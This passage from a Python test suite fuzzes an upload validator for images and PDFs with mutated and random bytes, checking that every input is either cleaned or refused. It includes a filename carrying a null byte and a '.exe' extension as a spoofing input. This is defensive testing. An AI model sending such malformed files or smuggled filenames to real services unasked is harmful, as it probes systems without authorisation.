def test_render_pdf_page_refuses_what_is_not_a_pdf() -> None:
    with pytest.raises(UploadRefused) as caught:
        render_pdf_page(b"%PDF-1.7\n<html></html>", 0)
    assert caught.value.message == PDF_UNREADABLE
    with pytest.raises(UploadRefused):
        render_pdf_page(jpeg_bytes(), 0)


# Only UploadRefused escapes -------------------------------------------------------------------------


@pytest.mark.parametrize("error", [MemoryError, RecursionError, KeyError, struct.error, zlib.error])
def test_library_failures_become_refusals(error: type[Exception], monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(*args: object, **kwargs: object) -> None:
        raise error("boom")

    with monkeypatch.context() as patch:
        patch.setattr(validation.Image, "open", explode)
        assert refusal(jpeg_bytes()) == IMAGE_DAMAGED
    with monkeypatch.context() as patch:
        patch.setattr(validation, "_encode", explode)
        assert refusal(png_bytes()) == UNREADABLE
    # The PDF libraries, in the worker's code run here: their failures are refusals, except running
    # out of memory, which the worker reports as such (the customer then hears "too large").
    for library, name in [(pdf_worker, "PdfReader"), (pdf_worker.pdfium, "PdfDocument")]:
        with monkeypatch.context() as patch:
            patch.setattr(library, name, explode)
            if error is MemoryError:
                with pytest.raises(MemoryError):
                    pdf_worker.clean_pdf(pdf_bytes())
            else:
                assert worker_refusal(pdf_bytes()) == PDF_UNREADABLE


SEEDS = [
    jpeg_bytes((48, 40)),
    png_bytes((40, 36)),
    build_pdf(page_objects()),
    pdf_bytes(pages=2),
]
MAGICS = [b"\xff\xd8\xff", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"\x89PNG\r\n\x1a\n", b"%PDF-", b"%PDF-1.7\n"]


@st.composite
def mutated_seed(draw: st.DrawFn) -> bytes:
    data = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(1, 4))):
        if not data:
            break
        # Half the edits land in the first few hundred bytes, where the headers live; the first 8
        # (the signature) are edited rarely, or nearly everything would stop at the type check.
        limit = draw(st.sampled_from([min(len(data), 300), len(data)]))
        first = draw(st.sampled_from([8, 8, 8, 0])) if limit > 8 else 0
        at = draw(st.integers(first, limit - 1))
        operation = draw(st.sampled_from(["flip", "byte", "truncate", "insert", "delete"]))
        if operation == "flip":
            data[at] ^= 1 << draw(st.integers(0, 7))
        elif operation == "byte":
            data[at] = draw(st.integers(0, 255))
        elif operation == "truncate":
            del data[at:]
        elif operation == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=32))
        else:
            del data[at : at + draw(st.integers(1, 64))]
    return bytes(data)


# Mostly mutated real files: they get past the signature check into the parsers, where bugs live.
hostile_bytes = st.one_of(
    st.binary(max_size=600),
    st.builds(lambda magic, tail: magic + tail, st.sampled_from(MAGICS), st.binary(max_size=600)),
    mutated_seed(),
    mutated_seed(),
    mutated_seed(),
)


@settings(
    max_examples=300,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(data=hostile_bytes, filename=st.sampled_from(["", "scan.pdf", "photo.jpg", "x.png", "évil\x00.exe"]))
def test_any_input_is_either_cleaned_or_refused(data: bytes, filename: str) -> None:
    if data.startswith(b"%PDF-"):
        # PDFs: the worker's checks, run here. Stricter than through the child (which would turn a
        # stray exception into a refusal and hide it), and 300 child processes would add 20 s.
        try:
            normalised, pages = pdf_worker.clean_pdf(data)
        except pdf_worker.PdfRefused as refused:
            assert refused.message in pdf_worker.REFUSALS
            return
        assert 1 <= pages <= MAX_PDF_PAGES
        assert pdf_worker.clean_pdf(normalised) == (normalised, pages)  # what we store passes again
        return
    try:
        clean = validate_upload(data, filename)
    except UploadRefused as refused:
        assert refused.message and refused.message.endswith(".")
        return
    assert (clean.content_type, clean.extension) in {("image/jpeg", "jpg"), ("image/png", "png")}
    assert clean.pages == 1
    # What we store passes again, as the same kind of file.
    assert validate_upload(clean.data).content_type == clean.content_type


@settings(max_examples=25, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(data=mutated_seed().filter(lambda data: data.startswith(b"%PDF-")))
def test_any_pdf_through_the_worker_is_either_cleaned_or_refused(data: bytes) -> None:
    try:
        clean = validate_upload(data)
    except UploadRefused as refused:
        assert refused.message and refused.message.endswith(".")
        return
    assert (clean.content_type, clean.extension) == ("application/pdf", "pdf")
    assert 1 <= clean.pages <= MAX_PDF_PAGES
    assert validate_upload(clean.data) == clean
